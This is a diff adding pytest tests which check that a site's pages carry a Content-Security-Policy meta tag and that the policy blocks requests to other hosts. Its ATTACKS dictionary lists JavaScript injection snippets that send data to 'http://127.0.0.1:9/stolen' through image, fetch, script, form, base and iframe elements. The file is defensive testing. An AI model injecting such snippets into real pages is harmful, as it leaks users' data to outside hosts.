@@ -1,0 +1,62 @@
+"""A page's policy: nothing is asked of other hosts, whatever gets into a page."""
+
+from pathlib import Path
+
+import pytest
+from browsing import PAGES, sampled
+from bs4 import BeautifulSoup
+from specdec_site.policy import POLICY, restrict
+
+ATTACKS = {
+    "img-src": "new Image().src = 'http://127.0.0.1:9/stolen';",
+    "connect-src": "fetch('http://127.0.0.1:9/stolen').catch(() => {});",
+    "script-src": "const s = document.createElement('script'); s.src = 'http://127.0.0.1:9/x.js';"
+    " document.head.append(s);",
+    "form-action": "const f = document.createElement('form'); f.action = 'http://127.0.0.1:9/';"
+    " document.body.append(f); f.submit();",
+    "base-uri": "const b = document.createElement('base'); b.href = 'http://127.0.0.1:9/';"
+    " document.head.append(b);",
+    "frame": "const f = document.createElement('iframe'); f.src = 'http://127.0.0.1:9/';"
+    " document.body.append(f);",
+}
+HEAD = "<html><head><meta charset='utf-8'><title>x</title></head><body></body></html>"
+
+
+def restricted() -> str:
+    """Return an empty page with the policy."""
+    soup = BeautifulSoup(HEAD, "html.parser")
+    restrict(soup)
+    return str(soup)
+
+
+def test_the_policy_precedes_all_but_the_encoding():
+    head = BeautifulSoup(restricted(), "html.parser").head
+    encoding, policy, *_ = head.find_all(True)
+    restrict(soup := BeautifulSoup(restricted(), "html.parser"))
+    assert str(soup) == restricted(), "a second repair changes nothing"
+    assert encoding.get("charset") and policy["content"] == POLICY
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize("directive", ATTACKS)
+def test_no_way_leads_to_another_host(chromium, directive: str):
+    page = chromium.new_page()
+    page.set_content(restricted())
+    page.evaluate(
+        """(attack) => { globalThis.blocked = [];
+        addEventListener('securitypolicyviolation', (e) => blocked.push(e.effectiveDirective));
+        const s = document.createElement('script'); s.textContent = attack;
+        document.head.append(s); }""",
+        ATTACKS[directive],
+    )
+    page.wait_for_function("blocked.length > 0")
+    assert page.evaluate("blocked")[0].startswith(directive)
+    page.close()
+
+
+@pytest.mark.parametrize("name", sampled(PAGES))
+def test_every_page_has_it_before_what_it_loads(book: Path, name: str):
+    soup = BeautifulSoup((book / name).read_text("utf-8"), "html.parser")
+    first = soup.head.find(["script", "link", "style"])
+    (tag,) = soup.head.find_all("meta", attrs={"http-equiv": "Content-Security-Policy"})
+    assert tag["content"] == POLICY and tag in first.find_all_previous("meta")
